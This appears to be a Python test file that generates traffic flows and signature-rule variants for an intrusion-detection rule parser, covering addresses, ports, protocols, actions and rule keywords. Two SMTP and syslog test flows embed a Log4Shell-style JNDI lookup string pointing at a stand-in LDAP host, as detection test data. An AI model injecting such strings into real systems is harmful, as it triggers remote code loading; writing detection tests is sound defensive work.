# SPDX-License-Identifier: GPL-2.0-or-later
"""Rule headers, actions, what a rule says of itself, and the way rules are written."""
from family import Family, answer, http

f = Family("addresses")
for name, client, server, sport, dport in (("in", "198.51.100.7", "192.0.2.80", None, 7777),
      ("out", "192.0.2.10", "198.51.100.7", None, 80), ("inside", "10.1.2.3", "192.168.7.8", None, 8080),
      ("outside", "203.0.113.5", "198.51.100.200", None, 443),
                                           ("v6_in", "2001:db8:2::5", "2001:db8:1::80", None, 7777),
                                           ("v6_out", "2001:db8:1::5", "2001:db8:2::80", None, 7000),
                                           ("low", "198.51.100.7", "192.0.2.81", None, 22),
                                           ("high", "198.51.100.7", "192.0.2.255", None, 65535)):
    f.flow(name, b"abc", ("s", b"abc"), proto="udp", client=client, server=server, dport=dport)
SIDES = ("192.0.2.80", "192.0.2.0/24", "!192.0.2.80", "!192.0.2.0/24", "[192.0.2.80,192.0.2.81]", "[192.0.2.0/24,!192.0.2.80]",
      "[192.0.2.0/24,![192.0.2.80,192.0.2.81]]", "![192.0.2.80,10.0.0.0/8]", "192.0.2.70-192.0.2.90",
      "[192.0.2.1-192.0.2.80,192.168.0.0/16]", "$HOME_NET", "!$HOME_NET", "$EXTERNAL_NET", "!$EXTERNAL_NET",
      "[$HOME_NET,203.0.113.5]", "[$HOME_NET,!192.0.2.80]", "[$EXTERNAL_NET,!203.0.113.5]",
         "$NESTED", "!$NESTED", "[$HTTP_SERVERS,$EXTERNAL_NET]", "2001:db8:1::/48", "2001:db8:1::80", "!2001:db8::/32",
         "[192.0.2.0/24,2001:db8:1::/48]", "any", "0.0.0.0/0", "::/0", "[192.0.2.0/24, 198.51.100.0/24]", "192.0.2.0/25",
         "192.0.2.80/32", "10.0.0.0/255.0.0.0", "[any,!192.0.2.80]", "!any", "[]", "$NOT_THERE", "300.1.1.1", "192.0.2.0/33",
         "[192.0.2.80", "[[192.0.2.80,[192.0.2.81]],10.1.2.3]", "![![192.0.2.80]]", "192.0.2", "[!192.0.2.80,!192.0.2.81]",
         "[192.0.2.80,!192.0.2.80]", "!!192.0.2.80")
for side in SIDES:
    f.rule('alert udp any any -> %s any (content:"abc";)' % side)
for side in SIDES[:14]:
    f.rule('alert udp %s any -> any any (content:"abc";)' % side)
    f.rule('alert udp %s any <> any any (content:"abc";)' % side)
PORTS = ("7777", "!7777", "80:8080", "8000:", ":100", "[80,443]", "[80,!443]", "[!80,!443]", "![80,443]", "[7000:7999,!7777]",
      "![7000:7999]", "$HTTP_PORTS", "!$HTTP_PORTS", "$FEW", "!$FEW", "[$HTTP_PORTS,8080]", "[1:65535,!$HTTP_PORTS]",
      "0:65535", "65535", "0", "70000", "8080:80", "[80", "any", "!any", "[any,!80]", "[20000:20100]", "[80,[443,[22]]]",
      "http", "80-90", "[ 80 , 443 ]", ":", "$NOT_THERE", "[80:90,85:100,!88]")
for ports in PORTS:
    f.rule('alert udp any any -> any %s (content:"abc";)' % ports)
for ports in PORTS[:10]:
    f.rule('alert udp any %s -> any any (content:"abc";)' % ports)
    f.rule('alert udp any any <> any %s (content:"abc";)' % ports)
f.rule('alert udp $HOME_NET any -> $EXTERNAL_NET any (content:"abc";)')
f.rule('alert udp $EXTERNAL_NET any -> $HOME_NET any (content:"abc";)')
f.rule('alert udp $HOME_NET any <> $EXTERNAL_NET any (content:"abc";)')
f.rule('alert udp $HOME_NET any <> any 80 (content:"abc";)')
f.rule('alert udp $HOME_NET 80 <> any any (content:"abc";)')
f.rule('alert udp any any => any any (content:"abc";)')
f.rule('alert udp any any <- any any (content:"abc";)')
f.rule('alert udp $EXTERNAL_NET any -> $HOME_NET any (flow:to_server; content:"abc";)')
f.rule('alert udp $HOME_NET any -> any any (flow:to_client; content:"abc";)')
f.rule('alert ip 10.0.0.0/8 any -> 192.168.0.0/16 any (content:"abc";)')
f.rule('alert ip any any -> any 7777 (content:"abc";)')

f = Family("protocols", "alert http any any -> any any")
f.flow("web", http(uri=b"/abc"), ("s", answer(b"abc")), dport=80)
f.flow("web_odd_port", http(uri=b"/abc"), ("s", answer(b"abc")), dport=7777)
f.flow("ssh", ("s", b"SSH-2.0-OpenSSH_9.2p1 abc\r\n"), b"SSH-2.0-Client_1 abc\r\n", dport=22)
f.flow("smtp", ("s", b"220 mail.example ESMTP abc\r\n"), b"EHLO abc\r\n", ("s", b"250 mail.example\r\n"),
      b"MAIL FROM:<${jndi:ldap://h/a}@x>\r\n", ("s", b"250 ok\r\n"), b"QUIT\r\n", ("s", b"221 bye\r\n"), dport=25)
f.flow("ftp", ("s", b"220 FTP abc\r\n"), b"USER abc\r\n", ("s", b"331 password\r\n"), b"PASS abc\r\n", ("s", b"230 in\r\n"),
      dport=21)
f.flow("ldap", b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00",
      ("s", b"\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x00\x04\x00\x04\x00"),
      b"\x30\x25\x02\x01\x02\x63\x20\x04\x03abc\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bobjectClass", dport=389)
f.flow("rmi", b"JRMI\x00\x02Kabc", ("s", b"N\x00\x0a192.0.2.1\x00\x00\x01\xbb"), dport=1099)
f.flow("unknown", b"abc def", ("s", b"abc"), dport=7778)
f.flow("dns", b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03abc\x07example\x00\x00\x01\x00\x01", proto="udp", dport=53)
f.flow("syslog", b"<34>Oct 11 22:14:15 abc app: ${jndi:ldap://h/a}", proto="udp", dport=514)
for proto in ("ip", "tcp", "udp", "http", "http1", "http2", "dns", "tls", "ssl", "ssh", "smtp", "ftp", "ftp-data", "ldap",
      "smb", "icmp", "tcp-pkt", "tcp-stream", "dcerpc", "mqtt", "bogus", "rmi", "syslog", "ipv4", "ip4", "ipv6", "imap", "sip"):
    f.rule('alert %s any any -> any any (content:"abc";)' % proto)
    f.rule('alert %s any any -> any any (flow:to_server; content:"abc"; nocase;)' % proto)
for proto in ("http", "ssh", "smtp", "ftp", "dns", "tls", "ip", "tcp", "udp"):
    f.rule('alert %s any any -> any any (flow:established;)' % proto)
    f.rule('alert %s any any -> any any (flow:established,to_server;)' % proto)
f.head = "alert tcp any any -> any any"
f.ask(*['app-layer-protocol:%s; content:"abc";' % p for p in ("http", "!http", "ssh", "smtp", "ftp", "failed", "!failed",
      "tls", "bogus", "unknown", "http,to_server", "!smtp")])
f.ask('app-layer-protocol:http;', 'app-layer-protocol:!http;', 'app-layer-protocol:ssh; flow:to_server;',
      'app-layer-protocol:http; flow:to_server; http.uri; content:"abc";')
f.rule('alert udp any any -> any any (app-layer-protocol:dns; content:"abc";)')
f.rule('alert udp any any -> any any (app-layer-protocol:!dns; content:"abc";)')
f.rule('alert http any any -> any any (app-layer-protocol:http; content:"abc";)')
f.rule('alert http any any -> any any (app-layer-protocol:!http; content:"abc";)')

# A pass rule silences its flow: each with a port of its own.
f = Family("actions", "alert udp any any -> any any")
for name, port in (("alert", 7001), ("drop", 7002), ("reject", 7003), ("pass", 7004), ("noalert", 7005), ("pass_part", 7006),
      ("bypass", 7007), ("alerting", 7008), ("block", 7009), ("reject_both", 7010), ("priority", 7011)):
    f.flow(name, b"abc one", b"abc two", ("s", b"abc three"), b"abc four", proto="udp", dport=port)
f.rule('alert udp any any -> any any (content:"abc";)')
f.rule('alert udp any any -> any 7001 (content:"two";)')
f.rule('drop udp any any -> any 7002 (content:"two";)')
f.rule('reject udp any any -> any 7003 (content:"two";)')
f.rule('pass udp any any -> any 7004 (content:"two";)')
f.rule('alert udp any any -> any 7005 (content:"two"; noalert;)')
f.rule('pass udp any any -> any 7006 (content:"four";)')
f.rule('alert udp any any -> any 7008 (content:"two"; alert;)')
f.rule('log udp any any -> any 7009 (content:"two";)')
f.rule('block udp any any -> any 7009 (content:"two";)')
f.rule('rejectboth udp any any -> any 7010 (content:"two";)')
f.rule('rejectsrc udp any any -> any 7010 (content:"one";)')
f.rule('rejectdst udp any any -> any 7010 (content:"four";)')
f.rule('alert udp any any -> any 7011 (content:"two"; priority:1;)')
f.rule('alert udp any any -> any 7011 (content:"two"; priority:255;)')
f.rule('ALERT udp any any -> any 7011 (content:"two";)')
f.rule('alert UDP any any -> any 7011 (content:"two";)')
f.rule('activate udp any any -> any 7011 (content:"two";)')

f = Family("self", "alert udp any any -> any any")
f.flow("abc", b"abc def ghi", proto="udp")
f.ask('content:"abc"; classtype:attempted-admin;', 'content:"abc"; classtype:not-a-class;', 'content:"abc"; priority:0;',
      'content:"abc"; priority:1;', 'content:"abc"; priority:255;', 'content:"abc"; priority:256;',
      'content:"abc"; priority:-1;', 'content:"abc"; rev:0;', 'content:"abc"; rev:7;', 'content:"abc"; rev:x;',
      'content:"abc"; gid:7;', 'content:"abc"; reference:url,example.org/a?b=c;',
      'content:"abc"; reference:cve,2021-44228; reference:url,example.org;', 'content:"abc"; reference:bogus,x;',
      'content:"abc"; metadata:a b, c d;', 'content:"abc"; metadata:created_at 2021_12_10, cve CVE_2021_44228;',
      'content:"abc"; metadata:lone;', 'content:"abc"; target:src_ip;', 'content:"abc"; target:dest_ip;',
      'content:"abc"; target:both;', 'content:"abc"; prefilter;', 'content:"abc"; prefilter; content:"def"; fast_pattern;',
      'dsize:11; prefilter;', 'content:"abc"; rev:1; rev:2;', 'content:"abc"; classtype:attempted-admin; priority:2;',
      'content:"abc"; bogus:1;', 'content:"abc"; bogus;', 'content:"abc";;', 'content:"abc"; nocase:1;', 'content;',
      'noalert:1; content:"abc";',
      'content:"abc"; content:"def"; prefilter;', '  content:"abc"  ;  nocase ;  ', 'content:"abc";content:"def";',
      'CONTENT:"abc";', 'content:"abc"; requires:version >= 7.0;', 'content:"abc"; requires:version >= 99;',
      'content:"abc"; requires:feature bogus;', 'content:"abc"; sameip;', 'content:"abc"; ttl:64;',
      'content:"abc"; ip_proto:17;', 'content:"abc"; tag:session,5,packets;')

f = Family("sizes", "alert http any any -> any any", dport=80)
for n in (1, 2, 3, 4, 10):
    f.flow("uri%d" % n, http(uri=b"/" + b"x" * (n - 1)), ("s", answer(b"y" * n)))
f.ask(*['http.uri; bsize:%s;' % size for size in ("3", "=3", "!3", ">3", "<3", ">=3", "<=3", "2<>4", "1<>10", "3<>4", "0",
      ">0", "3<>3", "10<>2", "-1", "x", " 3", "> 3", "1 <> 4")])
f.ask('http.uri; bsize:3; content:"/xx";', 'http.uri; content:"/x"; bsize:2;',
      'http.uri; content:"/"; bsize:>2; content:"x"; distance:0;', 'http.uri; content:"/xxxx"; bsize:3;',
      'http.uri; bsize:3; http.method; bsize:3;', 'bsize:3;', 'content:"abc"; bsize:3;', 'flow:to_client; file.data; bsize:3;',
      'flow:to_client; file.data; bsize:>3;', 'http.uri; isdataat:2;', 'http.uri; isdataat:!2;', 'http.uri; isdataat:3;',
      'http.uri; isdataat:!3;', 'http.uri; content:"/"; isdataat:1,relative;', 'http.uri; content:"/"; isdataat:!1,relative;',
      'http.uri; content:"/"; isdataat:2,relative;', 'http.uri; content:"x"; isdataat:!1,relative;', 'http.uri; isdataat:!0;',
      'http.uri; content:"x"; startswith;', 'http.uri; content:"/"; endswith;', 'http.uri; content:"/"; startswith; endswith;',
      'http.uri; content:"x"; depth:2;', 'http.uri; content:"x"; offset:2;', 'http.uri; content:"x"; offset:1; depth:1;',
      'http.uri; content:!"xx";', 'http.uri; content:"/"; content:!"x"; within:1;',
      'http.uri; content:"/"; content:"x"; within:1; content:!"x"; within:1;',
      'http.uri; content:"/"; within:1;', 'http.uri; content:"x"; within:1;', 'http.uri; content:"x"; within:2;',
      'http.uri; content:"x"; distance:1;', 'http.uri; content:"x"; distance:2;', 'http.uri; byte_test:1,=,47,0;',
      'http.uri; byte_test:1,=,120,1;', 'http.uri; content:"/"; byte_test:1,=,120,0,relative;',
      'http.uri; byte_jump:0,1; content:"x"; within:1;', 'http.uri; byte_extract:1,0,n; byte_test:1,<,n,1;',
      'http.uri; content:"x"; endswith; http.method; content:"GET";', 'http.uri; pcre:"/^.x{2}$/";',
      'http.uri; content:"/"; pcre:"/^x$/R";')
